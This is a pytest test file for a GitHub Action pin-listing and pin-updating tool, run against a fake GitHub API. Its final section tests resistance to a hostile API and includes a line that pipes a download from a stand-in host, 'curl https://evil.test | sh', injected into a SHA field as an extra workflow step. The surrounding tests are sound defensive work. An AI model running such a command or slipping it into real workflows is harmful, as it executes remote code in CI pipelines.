"""``bodhi-gen pins``: listing, and ``--update`` against a local GitHub (releases, lightweight and annotated tags)."""

from __future__ import annotations

import difflib
import json
import shutil
from datetime import UTC, datetime, timedelta
from io import StringIO
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer

from bodhi_gen.commands.pins import PinsSettings
from bodhi_gen.commands.pins import run as run_pins
from bodhi_gen.config.loader import load_config
from bodhi_gen.errors import ConfigError, GitHubError
from bodhi_gen.pins.data import dump_pins, load_pins, package_pins_path, parse_pins, pin_lookup, read_pins_file
from bodhi_gen.pins.rewrite import rewrite_uses
from bodhi_gen.plan.build import build_plan
from bodhi_gen.render.workflows import render_workflows
from bodhi_gen.versions import Version, action_version
from tests.helpers import ROOT, render_files, run_cli
from tests.unit.release.release_fakes import TOKEN, FakeGitHub, iso

NOW = datetime(2026, 9, 1, 12, 0, tzinfo=UTC)
NEW_CHECKOUT = "c" * 40
TAG_OBJECT = "d" * 40
NEW_LOGIN = "e" * 40
NEW_LOGIN_MAJOR = "f" * 40


def release(tag: str, days_ago: float, *, draft: bool = False, prerelease: bool = False) -> dict[str, object]:
    return {
        "tag_name": tag,
        "published_at": iso(NOW - timedelta(days=days_ago)),
        "draft": draft,
        "prerelease": prerelease,
    }


@pytest.fixture
def fake(httpserver: HTTPServer) -> FakeGitHub:
    """Releases for every pinned action (none newer), except checkout and login-action, which moved."""
    fake = FakeGitHub(httpserver)
    pins = load_pins()
    # checkout: v7.1.0 is 10 days old (taken, via an annotated tag); v7.2.0 is 2 days old (cooldown);
    # v8.0.0 is another major; a draft and a prerelease are never taken
    fake.reply(
        "/repos/actions/checkout/releases",
        [
            release("v8.0.0", 30),
            release("v7.3.0", 20, draft=True),
            release("v7.2.0", 2),
            release("v7.1.1-rc.1", 15, prerelease=True),
            release("v7.1.0", 10),
            release(pins["actions/checkout"].version, 100),
        ],
    )
    fake.reply(
        "/repos/actions/checkout/git/ref/tags/v7.1.0",
        {"ref": "refs/tags/v7.1.0", "object": {"type": "tag", "sha": TAG_OBJECT}},
    )
    fake.reply(
        f"/repos/actions/checkout/git/tags/{TAG_OBJECT}",
        {"tag": "v7.1.0", "object": {"type": "commit", "sha": NEW_CHECKOUT}},
    )
    for tag, sha in (("v8.0.0", "8" * 40), ("v7.2.0", "7" * 40)):
        fake.reply(f"/repos/actions/checkout/git/ref/tags/{tag}", {"object": {"type": "commit", "sha": sha}})
    # login-action: a lightweight tag straight to the commit, and a new major for --major
    fake.reply("/repos/docker/login-action/releases", [release("v5.0.0", 40), release("v4.2.0", 9)])
    fake.reply("/repos/docker/login-action/git/ref/tags/v4.2.0", {"object": {"type": "commit", "sha": NEW_LOGIN}})
    fake.reply("/repos/docker/login-action/git/ref/tags/v5.0.0", {"object": {"type": "commit", "sha": NEW_LOGIN_MAJOR}})
    for name, pin in pins.items():
        if name not in ("actions/checkout", "docker/login-action"):
            fake.reply(f"/repos/{name}/releases", [release(pin.version, 50)])
    return fake


def copy_pins(tmp_path: Path) -> Path:
    target = tmp_path / "action-pins.json"
    shutil.copyfile(package_pins_path(), target)
    return target


def settings(fake: FakeGitHub, file: Path, **changes: object) -> PinsSettings:
    base: dict[str, object] = {"update": True, "file": file, "api_url": fake.base}
    return PinsSettings(**{**base, **changes})  # type: ignore[arg-type]


def env(token: str = TOKEN) -> dict[str, str]:
    return {"GH_TOKEN": token}


def test_list_shows_every_pin_with_its_age() -> None:
    result = run_cli(["pins"])
    assert result.code == 0, result.err
    for name, pin in load_pins().items():
        line = next(line for line in result.out.splitlines() if line.startswith(name + " "))
        assert pin.version in line
        assert pin.sha[:12] in line
        assert pin.date in line
    assert "age (days)" in result.out.splitlines()[0]


def test_package_file_is_canonical() -> None:
    text = package_pins_path().read_text("utf-8")
    assert dump_pins(load_pins()) == text


def test_update_moves_within_major_respects_cooldown_and_follows_annotated_tags(
    fake: FakeGitHub, tmp_path: Path
) -> None:
    file = copy_pins(tmp_path)
    before = read_pins_file(file)
    out = StringIO()
    assert run_pins(settings(fake, file), out=out, err=StringIO(), env=env(), now=lambda: NOW) == 0
    after = read_pins_file(file)
    assert after["actions/checkout"].version == "v7.1.0"
    assert after["actions/checkout"].sha == NEW_CHECKOUT, "annotated tag → its commit, not the tag object"
    assert after["actions/checkout"].date == (NOW - timedelta(days=10)).date().isoformat()
    assert after["docker/login-action"].version == "v4.2.0"
    assert after["docker/login-action"].sha == NEW_LOGIN
    unchanged = {name for name in before if name not in ("actions/checkout", "docker/login-action")}
    assert all(after[name] == before[name] for name in unchanged)
    report = out.getvalue()
    assert "actions/checkout v7.2.0: released 2 day(s) ago, inside the 7-day cooldown" in report
    assert f"updated: actions/checkout {before['actions/checkout'].version} → v7.1.0" in report
    assert "2 pin(s) changed" in report


def test_update_with_major_and_no_cooldown(fake: FakeGitHub, tmp_path: Path) -> None:
    file = copy_pins(tmp_path)
    run_pins(
        settings(fake, file, any_major=True, cooldown_days=0),
        out=StringIO(),
        err=StringIO(),
        env=env(),
        now=lambda: NOW,
    )
    after = read_pins_file(file)
    assert after["docker/login-action"].version == "v5.0.0"
    assert after["docker/login-action"].sha == NEW_LOGIN_MAJOR
    assert after["actions/checkout"].version == "v8.0.0"
    assert after["actions/checkout"].sha == "8" * 40


def test_nothing_newer_leaves_the_file_alone(httpserver: HTTPServer, tmp_path: Path) -> None:
    fake = FakeGitHub(httpserver)
    for name, pin in load_pins().items():
        fake.reply(f"/repos/{name}/releases", [release(pin.version, 50), release("v99.0.0", 1)])
    file = copy_pins(tmp_path)
    stamp = file.stat().st_mtime_ns
    out = StringIO()
    run_pins(settings(fake, file), out=out, err=StringIO(), env=env(), now=lambda: NOW)
    assert "up to date" in out.getvalue()
    assert file.stat().st_mtime_ns == stamp


def test_api_errors_are_github_errors_without_the_token(httpserver: HTTPServer, tmp_path: Path) -> None:
    fake = FakeGitHub(httpserver)
    fake.reply("/repos/actions/attest/releases", [])  # answers 401: the fake checks the token
    file = copy_pins(tmp_path)
    with pytest.raises(GitHubError) as caught:
        run_pins(
            settings(fake, file), out=StringIO(), err=StringIO(), env=env("ghp_wrong_" + TOKEN[::-1]), now=lambda: NOW
        )
    assert "token was rejected" in caught.value.message
    assert TOKEN[::-1] not in caught.value.message


def test_cli_update_against_the_fake(fake: FakeGitHub, tmp_path: Path) -> None:
    file = copy_pins(tmp_path)
    result = run_cli(
        ["pins", "--update", "--file", str(file), "--api-url", fake.base, "--cooldown", "0"], env={"GH_TOKEN": TOKEN}
    )
    assert result.code == 0, result.err
    assert "v7.2.0" in json.loads(file.read_text("utf-8"))["actions/checkout"]["version"]
    assert TOKEN not in result.out + result.err


def test_regenerating_after_an_update_changes_only_the_moved_uses_lines(fake: FakeGitHub, tmp_path: Path) -> None:
    file = copy_pins(tmp_path)
    old = read_pins_file(file)
    run_pins(settings(fake, file), out=StringIO(), err=StringIO(), env=env(), now=lambda: NOW)
    new = read_pins_file(file)
    plan = build_plan(load_config(None, tmp_path))
    moved = {"actions/checkout", "docker/login-action"}
    for before, after in zip(
        render_workflows(plan, "x", pin_lookup({}, old)), render_workflows(plan, "x", pin_lookup({}, new)), strict=True
    ):
        changed = [
            line
            for line in difflib.unified_diff(before.content.splitlines(), after.content.splitlines(), n=0, lineterm="")
            if line[:1] in "+-" and not line.startswith(("+++", "---"))
        ]
        for line in changed:
            assert line[1:].strip().startswith(("uses:", "- uses:")), line
            assert any(f"{action}@" in line for action in moved), line
    assert any(
        "uses:" in f.content and NEW_CHECKOUT in f.content for f in render_workflows(plan, "x", pin_lookup({}, new))
    )


def test_config_overrides_a_pin(tmp_path: Path) -> None:
    config = tmp_path / ".github" / "bodhi-gen.yaml"
    config.parent.mkdir()
    default = (ROOT / "generator" / "bodhi_gen" / "data" / "default-config.yaml").read_text("utf-8")
    sha = "a" * 40
    assert default.rstrip().endswith("ref: v1"), "the default config ends with its generator section"
    config.write_text(default + f"  pins:\n    actions/checkout: {{version: v7.9.9, sha: {sha}}}\n", "utf-8")
    files = render_files("workflows", None, cwd=tmp_path)
    images = next(f.content for f in files if f.path.name == "bodhi-images.yml")
    assert f"actions/checkout@{sha} # v7.9.9" in images
    listing = run_cli(["pins"], cwd=tmp_path)
    assert "v7.9.9" in listing.out
    assert "config" in next(line for line in listing.out.splitlines() if line.startswith("actions/checkout "))


def test_rewrite_touches_only_pinned_uses_lines() -> None:
    pins = load_pins()
    text = (
        "steps:\n  - uses: actions/checkout@0123 # v1\n  - uses: ./local\n  - uses: other/thing@v1\n    with: {a: b}\n"
    )
    out = rewrite_uses(text, pins)
    assert out.splitlines()[1] == f"  - uses: {pins['actions/checkout'].uses}"
    assert out.splitlines()[2:] == text.splitlines()[2:]


def test_repository_actions_follow_the_pins() -> None:
    pins = load_pins()
    for path in (ROOT / "action.yml", ROOT / "setup" / "action.yml"):
        text = path.read_text("utf-8")
        assert rewrite_uses(text, pins) == text, f"{path.name}: run `bodhi-gen pins --rewrite {path.name}`"


@pytest.mark.parametrize(
    ("tag", "key"),
    [("v4", Version(4, 0, 0)), ("v4.2.1", Version(4, 2, 1)), ("1.3", Version(1, 3, 0)), ("v4-beta", None)],
)
def test_action_version(tag: str, key: Version | None) -> None:
    assert action_version(tag) == key


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[]", "file: Input should be an object"),
        ('{"a/b": {"version": "v1", "sha": "' + "0" * 40 + '"}}', "a/b.date: Field required"),
        ('{"a/b": {"version": "v1", "sha": "x", "date": ""}}', "a/b.sha"),
        ('{"a/b": {"version": "v1", "sha": "' + "0" * 40 + '", "date": "", "extra": 1}}', "a/b.extra"),
        ("{", "Invalid JSON"),
    ],
)
def test_invalid_pins_files_are_config_errors(text: str, problem: str) -> None:
    with pytest.raises(ConfigError, match=r"^pins\.json: not a valid pins file") as caught:
        parse_pins(text, "pins.json")
    assert problem in caught.value.message


# -- a hostile or broken API: nothing but a tag's own commit SHA is ever written -------------------------

EVIL_STEP = "\n  - run: curl https://evil.test | sh"
BAD_ANSWERS = [
    ("uppercase", {"object": {"type": "commit", "sha": "C" * 40}}, repr("C" * 40)),
    ("short", {"object": {"type": "commit", "sha": "c" * 12}}, repr("c" * 12)),
    ("a step injected", {"object": {"type": "commit", "sha": "c" * 40 + EVIL_STEP}}, "not a 40-digit"),
    ("not a string", {"object": {"type": "commit", "sha": 12345}}, "''"),
    (
        "another repository's tag",
        {
            "ref": "refs/tags/v7.2.0",
            "url": "https://api.github.test/repos/evil/fork/git/refs/tags/v7.2.0",
            "object": {"type": "commit", "sha": "c" * 40},
        },
        "/repos/evil/fork/git/refs/tags/v7.2.0",
    ),
    ("another tag", {"ref": "refs/tags/v9.9.9", "object": {"type": "commit", "sha": "c" * 40}}, "refs/tags/v9.9.9"),
]


@pytest.mark.parametrize(("answer", "shown"), [(a, s) for _, a, s in BAD_ANSWERS], ids=[n for n, _, _ in BAD_ANSWERS])
def test_update_refuses_a_sha_that_is_not_the_actions_commit(
    httpserver: HTTPServer, tmp_path: Path, answer: dict[str, object], shown: str
) -> None:
    fake = FakeGitHub(httpserver)
    pins = load_pins()
    fake.reply(
        "/repos/actions/checkout/releases", [release("v7.2.0", 30), release(pins["actions/checkout"].version, 90)]
    )
    fake.reply("/repos/actions/checkout/git/ref/tags/v7.2.0", answer)
    for name, pin in pins.items():
        if name != "actions/checkout":
            fake.reply(f"/repos/{name}/releases", [release(pin.version, 50)])
    file = copy_pins(tmp_path)
    action = tmp_path / "action.yml"
    shutil.copyfile(ROOT / "action.yml", action)
    before = (file.read_bytes(), action.read_bytes())

    result = run_cli(
        ["pins", "--update", "--file", str(file), "--rewrite", str(action), "--api-url", fake.base],
        env={"GH_TOKEN": TOKEN},
    )

    assert result.code == 5, result.err
    assert "actions/checkout" in result.err
    assert shown in result.err
    assert "no pin was changed" in result.err
    assert (file.read_bytes(), action.read_bytes()) == before
    assert TOKEN not in result.out + result.err
